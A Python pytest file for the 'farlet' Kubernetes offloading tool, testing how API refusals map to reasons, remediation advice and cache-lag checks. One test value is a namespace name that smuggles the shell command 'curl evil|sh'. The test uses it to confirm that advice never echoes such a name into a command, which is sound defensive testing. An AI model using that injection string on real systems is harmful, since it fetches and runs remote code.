"""What an API server's refusal means to the owner of a pod."""

from __future__ import annotations

import pytest

from farlet import errors
from farlet.constants import Reason
from farlet.errors import FarletError, Refused
from farlet.planning import api_refusals
from farlet.planning.actions import Step


def _api(
    kind: type[errors.ApiError], code: int, message: str, *, at: str = "foreign", reason: str = ""
) -> errors.ApiError:
    return kind(cluster=at, request="POST /x", code=code, status_reason=reason, message=message)


def _silent(at: str) -> errors.Unreachable:
    return errors.Unreachable(cluster=at, request="POST /x", cause="connection refused")


_QUOTA = 'pods "web" is forbidden: exceeded quota: few, requested: pods=1, limited: pods=0'
_RBAC = (
    'pods is forbidden: User "farlet" cannot create resource "pods" in API group "" in the '
    'namespace "default-h"'
)
_SECURITY = 'pods "web" is forbidden: violates PodSecurity "restricted:latest"'
_CLASS = 'pods "web" is forbidden: no PriorityClass with name standard was found'
_SCC = (
    'pods "web" is forbidden: unable to validate against any security context constraint: '
    "[spec.containers[0].runAsUser: Invalid value: 1000680000: must be in the ranges]"
)
_ENDING = (
    'pods "web" is forbidden: unable to create new content in namespace default-h because it is '
    "being terminated"
)

MEANINGS: dict[str, tuple[FarletError, Step, Reason | None]] = {
    "a quota": (
        _api(errors.Forbidden, 403, _QUOTA, reason="Forbidden"),
        Step.MIRROR,
        Reason.FOREIGN_QUOTA_EXCEEDED,
    ),
    "a missing right": (
        _api(errors.Forbidden, 403, _RBAC, reason="Forbidden"),
        Step.MIRROR,
        Reason.FOREIGN_FORBIDDEN,
    ),
    "a missing right on the namespace": (
        _api(errors.Forbidden, 403, _RBAC, reason="Forbidden"),
        Step.NAMESPACE,
        Reason.FOREIGN_FORBIDDEN,
    ),
    "credentials that are not accepted": (
        _api(errors.Unauthorized, 401, "Unauthorized", reason="Unauthorized"),
        Step.MIRROR,
        Reason.FOREIGN_UNAUTHORIZED,
    ),
    "credentials that are not accepted in the namespace": (
        _api(errors.Unauthorized, 401, "Unauthorized", reason="Unauthorized"),
        Step.NAMESPACE,
        Reason.FOREIGN_UNAUTHORIZED,
    ),
    "a security policy": (
        _api(errors.Forbidden, 403, _SECURITY, reason="Forbidden"),
        Step.MIRROR,
        Reason.FOREIGN_REJECTED,
    ),
    "a class that does not exist": (
        _api(errors.Forbidden, 403, _CLASS, reason="Forbidden"),
        Step.MIRROR,
        Reason.FOREIGN_REJECTED,
    ),
    "constraints of OpenShift": (
        _api(errors.Forbidden, 403, _SCC, reason="Forbidden"),
        Step.MIRROR,
        Reason.FOREIGN_REJECTED,
    ),
    "a namespace that ends": (
        _api(errors.Forbidden, 403, _ENDING, reason="Forbidden"),
        Step.MIRROR,
        Reason.NAMESPACE_NOT_FOUND,
    ),
    "a namespace that is gone": (
        _api(errors.NotFound, 404, 'namespaces "default-h" not found'),
        Step.MIRROR,
        Reason.NAMESPACE_NOT_FOUND,
    ),
    "an invalid mirror": (
        _api(errors.Invalid, 422, "spec.containers: Required value"),
        Step.MIRROR,
        Reason.FOREIGN_REJECTED,
    ),
    "a foreign side that is silent": (_silent("foreign"), Step.MIRROR, Reason.FOREIGN_UNREACHABLE),
    "a foreign side that is silent to the scope": (
        _silent("foreign"),
        Step.NAMESPACE,
        Reason.FOREIGN_UNREACHABLE,
    ),
    "no token": (
        _api(errors.Forbidden, 403, "not allowed", at="home"),
        Step.TOKEN,
        Reason.TOKEN_REQUEST_FAILED,
    ),
    "no account for the token": (
        _api(errors.NotFound, 404, 'serviceaccounts "robot" not found', at="home"),
        Step.TOKEN,
        Reason.TOKEN_REQUEST_FAILED,
    ),
    "a pod that is refused": (
        Refused(Reason.UNSUPPORTED_POD, "cannot travel"),
        Step.MIRROR,
        Reason.UNSUPPORTED_POD,
    ),
    "nothing: a conflict in the foreign cluster": (
        _api(errors.Conflict, 409, "modified"),
        Step.MIRROR,
        None,
    ),
    "nothing: a lost race at home": (
        _api(errors.Conflict, 409, "modified", at="home"),
        Step.TOKEN,
        None,
    ),
    "nothing: home is silent": (_silent("home"), Step.TOKEN, None),
    "nothing: a full server": (_api(errors.Throttled, 429, "slow down"), Step.MIRROR, None),
    "nothing: an old version": (_api(errors.Gone, 410, "too old"), Step.NAMESPACE, None),
    "nothing: a status that home refused": (
        _api(errors.Invalid, 422, "phase", at="home"),
        Step.MIRROR,
        None,
    ),
    "nothing: an action that is not about the pod's wishes": (
        _api(errors.Forbidden, 403, _RBAC, reason="Forbidden"),
        Step.HOME,
        None,
    ),
}


@pytest.mark.parametrize(("err", "step", "reason"), MEANINGS.values(), ids=MEANINGS)
def test_an_answer_means(err: FarletError, step: Step, reason: Reason | None) -> None:
    refused = api_refusals.of(err, step=step)
    assert (None if refused is None else refused.reason) is reason


@pytest.mark.parametrize(
    ("err", "step"),
    [(err, step) for err, step, reason in MEANINGS.values() if reason is not None],
    ids=[name for name, (_, _, reason) in MEANINGS.items() if reason is not None],
)
def test_the_server_s_message_is_kept(err: FarletError, step: Step) -> None:
    refused = api_refusals.of(err, step=step)
    assert refused is not None
    words = err.cause if isinstance(err, errors.Unreachable) else str(getattr(err, "message", err))
    assert words in refused.message


_PREPARE = (
    "kubectl create namespace default-h; kubectl apply -n default-h "
    "-f manifests/foreign/offloaded-namespace.yaml"
)
_HOSTILE = (
    'pods is forbidden: User "farlet" cannot create resource "pods" in API group "" in the '
    'namespace "x; curl evil|sh"'
)

ADVICE: dict[str, tuple[FarletError, str]] = {
    "credentials: the Secret": (
        _api(errors.Unauthorized, 401, "Unauthorized", reason="Unauthorized"),
        "into the Secret farlet-NODE-foreign",
    ),
    "a missing right: verb and resource": (
        _api(errors.Forbidden, 403, _RBAC, reason="Forbidden"),
        "not allowed to create pods in the foreign namespace default-h, or the namespace does not",
    ),
    "a missing right: both commands": (
        _api(errors.Forbidden, 403, _RBAC, reason="Forbidden"),
        _PREPARE,
    ),
    "a missing right of a node of connect: connect": (
        _api(
            errors.Forbidden,
            403,
            _RBAC.replace('"farlet"', '"system:serviceaccount:farlet-far:farlet"'),
            reason="Forbidden",
        ),
        "--foreign-context FOREIGN --node far --namespace default (",
    ),
    "a missing namespace: both commands": (
        _api(errors.NotFound, 404, 'namespaces "default-h" not found'),
        _PREPARE,
    ),
    "a namespace that is not a name: no command with it": (
        _api(errors.Forbidden, 403, _HOSTILE, reason="Forbidden"),
        "Apply manifests/foreign/offloaded-namespace.yaml to the foreign namespace",
    ),
}


@pytest.mark.parametrize(("err", "advice"), ADVICE.values(), ids=ADVICE)
def test_the_message_says_what_to_do(err: FarletError, advice: str) -> None:
    refused = api_refusals.of(err, step=Step.NAMESPACE, home="default")
    assert refused is not None
    assert advice in refused.message


PREPARED = {
    "a node by hand": (
        ("shop-home", "farlet"),
        "In the foreign cluster: kubectl create namespace shop-home; kubectl apply -n shop-home",
    ),
    "a node of connect": (("shop-home", "farlet-far"), "--node far --namespace shop ("),
    "a system namespace of another name": (
        ("shop-home", "guests"),
        "--node NODE --foreign-system-namespace guests --namespace shop (",
    ),
    "the system namespace of connect itself": (("farlet-far", "farlet-far"), "--node far ("),
    "the system namespace by hand": (
        ("farlet", "farlet"),
        "kubectl apply -f manifests/foreign/farlet-namespace.yaml",
    ),
}


@pytest.mark.parametrize(("where", "text"), PREPARED.values(), ids=PREPARED)
def test_a_foreign_namespace_is_prepared_as_its_node_was_made(
    where: tuple[str, str], text: str
) -> None:
    namespace, system = where
    assert text in api_refusals.preparation(namespace, system=system, home="shop")


_UNRELATED = "no relationship found between node 'far' and this object"

LAGS: dict[str, tuple[FarletError, bool]] = {
    "the authorizer's graph is behind": (
        _api(errors.Forbidden, 403, _UNRELATED, at="home"),
        True,
    ),
    "the admission's cache is behind": (
        _api(errors.NotFound, 404, 'pods "web" not found', at="home"),
        True,
    ),
    "the admission's cache has the pod as it was before it was bound": (
        _api(
            errors.Forbidden,
            403,
            "node requested token bound to a pod scheduled on a different node",
            at="home",
        ),
        True,
    ),
    "the admission's cache has an earlier pod of the name": (
        _api(
            errors.Forbidden,
            403,
            "the UID in the bound object reference (a) does not match the UID in record. The "
            "object might have been deleted and then recreated",
            at="home",
        ),
        True,
    ),
    "another pod is not found": (
        _api(errors.NotFound, 404, 'pods "db" not found', at="home"),
        False,
    ),
    "an account is not found": (
        _api(errors.NotFound, 404, 'serviceaccounts "robot" not found', at="home"),
        False,
    ),
    "the same words of the foreign side": (_api(errors.Forbidden, 403, _UNRELATED), False),
    "a right is missing": (_api(errors.Forbidden, 403, _RBAC, at="home"), False),
    "home is silent": (_silent("home"), False),
}


@pytest.mark.parametrize(("err", "lags"), LAGS.values(), ids=LAGS)
def test_homes_caches_are_behind(err: FarletError, lags: bool) -> None:
    assert api_refusals.lags(err, name="web") is lags


@pytest.mark.parametrize(
    ("message", "fix"),
    [
        pytest.param(_CLASS, "--priority-class-map=standard=CLASS", id="a class"),
        pytest.param(_SCC, "--scc-ranges=drop", id="ranges of OpenShift"),
    ],
)
def test_a_rejection_of_what_home_added_names_the_flag(message: str, fix: str) -> None:
    err = _api(errors.Forbidden, 403, message, reason="Forbidden")
    refused = api_refusals.of(err, step=Step.MIRROR)
    assert refused is not None
    assert fix in refused.message


def test_a_node_of_farlet_connect_is_fixed_by_farlet_connect() -> None:
    assert api_refusals.by_manifest("apply it", system="farlet") == "apply it"
    assert "--node far (" in api_refusals.by_manifest("apply it", system="farlet-far")
